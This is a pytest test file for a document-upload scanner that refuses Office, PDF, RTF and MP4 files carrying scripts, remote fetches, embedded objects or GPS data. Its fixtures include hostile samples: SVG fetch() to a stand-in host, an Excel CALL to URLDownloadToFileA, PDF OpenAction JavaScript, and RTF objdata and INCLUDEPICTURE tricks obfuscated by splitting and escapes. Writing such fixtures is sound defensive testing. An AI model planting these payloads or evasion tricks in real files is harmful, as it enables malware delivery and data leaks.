"""Documents made to harm whoever opens them, by somebody who had not read the rules that refuse them (S10)."""

import struct

import pytest

from storage.reports import active_content
from tests.storage.reports.file_samples import kept, pdf, refusal, zipped

W = b"<w:document xmlns:w='u' xmlns:v='v'>%s</w:document>"
DRAWING = b"<svg xmlns='http://www.w3.org/2000/svg'>%s</svg>"
HOVERED = b"<p:sld xmlns:p='p' xmlns:r='r'><p:hlinkMouseOver r:id='%s'/></p:sld>"
MP4 = b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom"


def packed(main: str, body: bytes = b"<x/>", **parts: bytes) -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", main: body, **parts})


def docx(body: bytes = b"", **parts: bytes) -> bytes:
    return packed("word/document.xml", W % body, **parts)


def drawn(content: bytes) -> bytes:
    return docx(**{"word/media/image1.svg": DRAWING % content})


def xlsx(**parts: bytes) -> bytes:
    return packed("xl/workbook.xml", **parts)


def cell(formula: bytes) -> bytes:
    return xlsx(**{"xl/worksheets/sheet1.xml": b"<worksheet><c><f>%s</f></c></worksheet>" % formula})


def pptx(slide: bytes) -> bytes:
    return packed("ppt/presentation.xml", **{"ppt/slides/slide1.xml": slide})


HOSTILE = {
    "a script in a drawing": (drawn(b"<script>fetch('http://e')</script>"), "a.docx", "scripts"),
    "a picture of a drawing": (drawn(b"<image href='http://e/x'/>"), "a.docx", "remote"),
    "the style of a drawing": (drawn(b"<style>@import url(http://e/x)</style>"), "a.docx", "remote"),
    "a colour of a drawing": (drawn(b"<rect style='fill:url(//e/x)'/>"), "a.docx", "remote"),
    "a picture in VML": (docx(b"<v:imagedata src='http://e/x.png'/>"), "a.docx", "remote"),
    "a rule for a cell": (
        xlsx(**{"xl/worksheets/sheet1.xml": b"<worksheet><formula1>WEBSERVICE('http://e')</formula1></worksheet>"}),
        "a.xlsx",
        "remote",
    ),
    "a library": (cell(b'CALL("urlmon","URLDownloadToFileA","JJ",0,"http://e")'), "a.xlsx", "remote"),
    "Python in a cell": (cell(b"_xlfn._xlws.PY(0,0)"), "a.xlsx", "remote"),
    "a database every minute": (
        xlsx(**{"xl/connections.xml": b"<connections><connection id='1' interval='1'/></connections>"}),
        "a.xlsx",
        "remote",
    ),
    "a link under the mouse": (pptx(HOVERED % b"rId2"), "a.pptx", "remote"),
    "a script of a film": (pdf(b"<</OpenAction<</S/Rendition/OP 4/JS(app.alert(1))>>>>"), "a.pdf", "scripts"),
    "a share in numbers": (pdf(rb"<</OpenAction<</S/GoToR/F(\134\134e\134s)>>>>"), "a.pdf", "remote"),
    "a picture of the web in numbers": (pdf(rb"<</Subtype/Image/F(\150ttp://e/x)>>"), "a.pdf", "remote"),
    "a place in UTF-16": (
        pdf(b"<</Type/Metadata>>\nstream\n%s\nendstream" % "<x exif:GPSLatitude='18,28N'/>".encode("utf-16-be")),
        "a.pdf",
        "place",
    ),
    "a film with its place": (docx(**{"word/media/v.mp4": MP4 + b"\xa9xyz+18.4861-069.9312/"}), "a.docx", "place"),
    "a field in pieces": (
        rb'{\rtf1{\field{\*\fldinst {INCLUDE}{\b PICTURE} {"http:}{//e/x"}}{\fldrslt x}}}',
        "a.rtf",
        "remote",
    ),
    "an object that is brought up to date": (rb"{\rtf1{\object\objupdate{\result x}}}", "a.rtf", "attached"),
    "only the word that does it": (rb"{\rtf1 x\objupdate}", "a.rtf", "attached"),
    "an object's data": (rb"{\rtf1{\*\objdata 0105}}", "a.rtf", "attached"),
    "an object's data, split by a group": (rb"{\rtf1{\*\obj{}data 0105}}", "a.rtf", "attached"),
    "an object's data, split by lines": (b"{\\rtf1{\\*\\ob\r\nj\r\nda\tta 0105}}", "a.rtf", "attached"),
    "an object's data in codes": (rb"{\rtf1{\*\ob\'6a\u100?ata 0105}}", "a.rtf", "attached"),
    "an object behind much text": (rb"{\rtf1 " + rb"Acta.\par " * 9000 + rb"{\*\objdata 0105}}", "a.doc", "attached"),
    "an object behind a backslash": (rb"{\rtf1 C:\\\objdata 0105}", "a.rtf", "attached"),
    "a source of letters": (rb"{\rtf1{\*\datafile \\\\e\\x}}", "a.rtf", "remote"),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_document_is_refused(what: str) -> None:
    data, name, reason = HOSTILE[what]
    assert refusal(data, name) == reason


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (drawn(b"<a href='http://e'><rect style='fill:url(#shade)'/></a><style>rect{fill:red}</style>"), "a.docx"),
        (pptx(HOVERED % b""), "a.pptx"),
        (cell(b"SUM(A1:A9)"), "a.xlsx"),
        (pdf(rb"<</Title(\120lan)>>"), "a.pdf"),
        (b"{\\rtf1 Acta\\\nobjetivos y object\\par C:\\\\object\\\\data\\objattph}", "a.rtf"),
        (rb'{\rtf1{\field{\*\fldinst {HYPERLINK "http://e"}}{\fldrslt INCLUDEPICTURE "http://e"}}}', "a.rtf"),
    ],
    ids=["a shade", "the next slide", "a sum", "a title", "a name", "a link"],
)
def test_what_looks_alike_and_fetches_nothing_is_kept(data: bytes, name: str) -> None:
    assert kept(data, name)


@pytest.mark.parametrize(
    ("told", "secret"),
    [
        (b"$GPRMC,123519,A,1829.166,N,06955.872,W,022.4,084.4", b"1829.166"),
        (b"[latitude: 18.486100] [longitude: -69.931200]", b"69.9312"),
        (b"GPS (-69.9312, 18.4861, 12)", b"18.4861"),
    ],
    ids=["in a car", "a drone", "an older drone"],
)
def test_what_a_camera_notes_each_second_is_overwritten(told: bytes, secret: bytes) -> None:
    video = MP4 + told + b"\0\0\0\x08mdat"
    found = kept(video, "v.mp4", accept="video")
    assert (secret in found.data, len(found.data)) == (False, len(video))


@pytest.mark.parametrize("track", [b"camm", b"djmd"])
def test_a_track_of_places_without_a_mark_has_the_recording_refused(track: bytes) -> None:
    video = MP4 + b"\0\0\0\x20stsd\0\0\0\0\0\0\0\1\0\0\0\x10" + track + struct.pack("<d", 18.4861)
    assert refusal(video, "v.mp4", accept="video") == "place"


def test_instructions_in_many_pieces_are_read_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """A document of a hundred kilobytes held up everybody else's files: each letter was read with all before it."""
    read = 0
    field = active_content._FIELD

    class Counting:
        def search(self, text: str) -> object:
            nonlocal read
            read += len(text)
            return field.search(text)

    monkeypatch.setattr(active_content, "_FIELD", Counting())
    pieces = 5_000
    assert kept(docx(b"<w:instrText>A</w:instrText>" * pieces), "a.docx")
    assert read < 300 * pieces
    split = b"".join(b"<w:instrText>%c</w:instrText>" % letter for letter in b'INCLUDEPICTURE "http://e.example"')
    assert refusal(docx(split), "a.docx") == "remote"
